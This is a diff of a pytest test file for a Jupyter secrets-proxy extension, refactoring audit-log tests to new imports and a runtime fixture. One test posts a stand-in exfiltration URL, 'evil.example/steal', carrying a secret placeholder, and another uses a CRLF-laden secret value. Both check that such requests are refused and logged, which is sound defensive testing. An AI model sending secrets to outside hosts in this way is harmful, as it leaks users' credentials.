@@ -14,9 +14,10 @@ from datetime import datetime, timedelta, timezone
 
 import pytest
 
-from jupyter_secrets.audit import AuditLog, AuditQuery, now_iso
 from jupyter_secrets.errors import InvalidInput
-from jupyter_secrets.store.base import AuditRecord
+from jupyter_secrets.services.audit import AuditLog, AuditQuery
+from jupyter_secrets.store import AuditFilter, AuditRecord
+from jupyter_secrets.store.records import now_iso
 from jupyter_secrets.store.sqlite import SQLiteStore
 
 from .helpers import ADMIN, ANONYMOUS, USER, assert_no_canary, http, run_cli
@@ -103,13 +104,13 @@ async def test_proxied_and_ad_hoc_calls_are_recorded_with_status_bytes_and_time(
 
 
 async def test_refused_calls_are_recorded_with_the_reason(
-    example_token, upstream, api, settings
+    runtime, example_token, upstream, api, settings
 ):
     await api("POST", "request", body={
         "url": "https://evil.example/steal?k={{secrets.EXAMPLE_TOKEN}}"})
     await api("POST", "request", body={"url": f"{upstream.url}/echo",
                                        "headers": {"X": "{{secrets.NOPE}}"}})
-    settings["secrets_service"].create("admin", "MULTI", "a\r\nb",
+    runtime.secrets.create("admin", "MULTI", "a\r\nb",
                                        allowed_hosts=[example_token])
     await api("POST", "request", body={"url": f"{upstream.url}/echo",
                                        "headers": {"X-Key": "{{secrets.MULTI}}"}})
@@ -171,8 +172,8 @@ async def test_kernel_calls_record_the_kernel_and_its_notebook(
 
 
 @pytest.mark.usefixtures("multi_user")
-async def test_only_admins_read_the_log(api, upstream, canary, jp_serverapp, server_url):
-    jp_serverapp.web_app.settings["secrets_service"].create(
+async def test_only_admins_read_the_log(runtime, api, upstream, canary, jp_serverapp, server_url):
+    runtime.secrets.create(
         "alice", "SHARED", canary, allowed_hosts=[f"127.0.0.1:{upstream.port}"])
     status, _ = await api("POST", "request", headers=USER, body={
         "url": f"{upstream.url}/echo/bob", "headers": {"X": "{{secrets.SHARED}}"}})
@@ -269,7 +270,7 @@ async def test_recording_is_queued_and_written_in_a_worker_thread(tmp_path):
         log.record("proxy_call", user="u", secrets=["X"], path="/p?key=abc#frag")
     assert writers == [], "noting an event does no I/O"
     for _ in range(40):
-        rows = store.query_audit(limit=100)
+        rows = store.query_audit(AuditFilter(limit=100))
         if rows:
             break
         await asyncio.sleep(0.05)
@@ -278,7 +279,7 @@ async def test_recording_is_queued_and_written_in_a_worker_thread(tmp_path):
     assert len(rows) == 50 and {r.path for r in rows} == {"/p"}
     log.record("delete", user="u", secrets=["X"])
     await log.aclose()
-    assert len(store.query_audit(limit=100)) == 51, "flushed at shutdown"
+    assert len(store.query_audit(AuditFilter(limit=100))) == 51, "flushed at shutdown"
     store.close()
 
 
